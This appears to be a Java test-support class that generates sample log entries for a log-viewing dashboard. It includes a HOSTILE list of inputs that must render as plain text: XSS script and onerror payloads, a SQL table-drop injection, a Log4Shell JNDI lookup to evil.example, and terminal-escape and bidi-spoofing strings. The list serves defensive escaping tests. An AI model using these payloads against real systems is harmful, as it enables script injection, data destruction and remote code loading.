package dev.asyncz.agent.dashboard;

import dev.asyncz.agent.storage.StorageFigures;
import dev.asyncz.agent.storage.memory.RingStorage;
import dev.asyncz.agent.tasks.TaskRegistry;
import dev.asyncz.agent.tasks.history.RunHistory;
import dev.asyncz.api.LogEntry;
import dev.asyncz.api.LogLevel;
import dev.asyncz.api.LogQuery;
import dev.asyncz.api.LogStorage;
import dev.asyncz.api.StorageStats;
import dev.asyncz.bootstrap.TimeOrderedIds;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicLong;
import org.jspecify.annotations.Nullable;

/** Lines as applications write them, and as attackers would. */
public final class Samples {
    /** A storage that does not answer. */
    public static final LogStorage UNREACHABLE = new LogStorage() {
        @Override
        public void append(LogEntry entry) {}

        @Override
        public Iterable<LogEntry> query(LogQuery query) {
            throw new IllegalStateException("gone");
        }
    };

    public static final String TRACE = """
            java.lang.IllegalStateException: Warehouse answered 503 for order 4711
            \tat com.acme.orders.Warehouse.reserve(Warehouse.java:88)
            \tat com.acme.orders.OrderJobs.sync(OrderJobs.java:41)
            \tat java.base/java.util.concurrent.Executors$RunnableAdapter.call(Executors.java:539)
            Caused by: java.net.SocketTimeoutException: Read timed out
            \tat java.base/sun.nio.ch.NioSocketImpl.timedRead(NioSocketImpl.java:288)
            \t... 3 more
            """;

    /** What must stay text wherever it turns up. */
    public static final List<String> HOSTILE = List.of(
            "<script>document.title='owned'</script>",
            "\"><img src=x onerror=alert(1)>",
            "'; DROP TABLE asyncz_logs; --",
            "{{#rows}}{{{message}}}{{/rows}} ${jndi:ldap://evil.example/a}",
            "\u001B[31mred\u001B[0m \u001B]8;;http://evil.example\u0007link\u001B]8;;\u0007 and \u001B alone",
            "right\u202Eleft\u2066hidden\u2069",
            "nul\u0000 bell\u0007 delete\u007F c1\u0085 return\rback",
            "lone \uD83D surrogate \uDE00 and a whole one \uD83D\uDE00",
            "line one\r\nline two\n\tline three");

    private static final AtomicLong MILLIS =
            new AtomicLong(Instant.parse("2026-11-22T09:15:00Z").toEpochMilli());
    private static final TimeOrderedIds IDS = new TimeOrderedIds(MILLIS::get);

    private Samples() {}

    public static LogEntry entry(LogLevel level, String message, @Nullable String task, @Nullable String run) {
        return entry(level, message, "com.acme.Orders", task, run, Map.of("thread", "main"));
    }

    public static LogEntry entry(
            LogLevel level,
            String message,
            String logger,
            @Nullable String task,
            @Nullable String run,
            Map<String, Object> extra) {
        Instant time = Instant.ofEpochMilli(MILLIS.addAndGet(137));
        return new LogEntry(IDS.next(), time, level, message, logger, task, run, extra);
    }

    public static RingStorage ring(List<LogEntry> entries) {
        RingStorage ring = new RingStorage(10_000, 64 << 20);
        ring.appendAll(entries);
        return ring;
    }

    public static Dashboard sources(LogStorage storage) {
        return new Dashboard(
                storage,
                new RunHistory(new TaskRegistry()),
                () -> figures(storage),
                () -> null,
                () -> List.of("Log4j 2", "Quartz"),
                List::of,
                null);
    }

    private static StorageFigures figures(LogStorage storage) {
        StorageStats stats = storage.stats();
        return new StorageFigures(
                "memory", stats.appended(), stats.size(), 0, Map.of("overwritten", stats.dropped()), null);
    }

    /** An hour of a lively application. */
    public static List<LogEntry> lifelike(int count) {
        List<LogEntry> entries = new ArrayList<>();
        String[] tasks = {"com.acme.orders.OrderJobs.sync", "reports.nightly", "com.acme.Starter.start:42"};
        String[] runs = {
            UUID.randomUUID().toString(),
            UUID.randomUUID().toString(),
            UUID.randomUUID().toString()
        };
        for (int i = 0; i < count; i++) {
            if (i % 40 == 0) {
                runs[i / 40 % 3] = IDS.next().toString();
            }
            entries.add(lifelike(i, tasks[i / 7 % 3], runs[i / 7 % 3]));
        }
        return entries;
    }

    private static LogEntry lifelike(int i, String task, String run) {
        Map<String, Object> extra = Map.of(
                "thread", "scheduling-" + i % 4, "mdc", Map.of("order", 4700 + i, "tenant", "acme"), "marker", "AUDIT");
        return switch (i % 23) {
            case 3 ->
                entry(
                        LogLevel.ERROR,
                        "Order 4711 could not be reserved",
                        "com.acme.orders.Warehouse",
                        task,
                        run,
                        Map.of("thread", "scheduling-1", LogEntry.EXCEPTION, TRACE));
            case 9, 10 ->
                entry(
                        LogLevel.WARN,
                        "Connection pool is 90 % used, 18 of 20 taken; oldest for 41 s",
                        "com.zaxxer.hikari.pool.HikariPool",
                        task,
                        run,
                        extra);
            case 5, 6, 7, 13 ->
                entry(
                        LogLevel.DEBUG,
                        "select o.id, o.state from orders o where o.changed > ? order by o.id limit 500",
                        "org.hibernate.SQL",
                        task,
                        run,
                        extra);
            case 17 ->
                entry(
                        LogLevel.TRACE,
                        "binding parameter (1:TIMESTAMP) <- [2026-11-22T09:00]",
                        "org.hibernate.orm.jdbc.bind",
                        task,
                        run,
                        extra);
            case 12, 20 ->
                entry(
                        LogLevel.INFO,
                        "Started AcmeApplication in 2.31 seconds (process running for 2.9)",
                        "com.acme.AcmeApplication",
                        null,
                        null,
                        Map.of("thread", "main"));
            default ->
                entry(
                        LogLevel.INFO,
                        "Synchronised " + i * 3 + " orders in " + (12 + i % 40) + " ms, next page from " + i,
                        "com.acme.orders.OrderJobs",
                        task,
                        run,
                        extra);
        };
    }
}
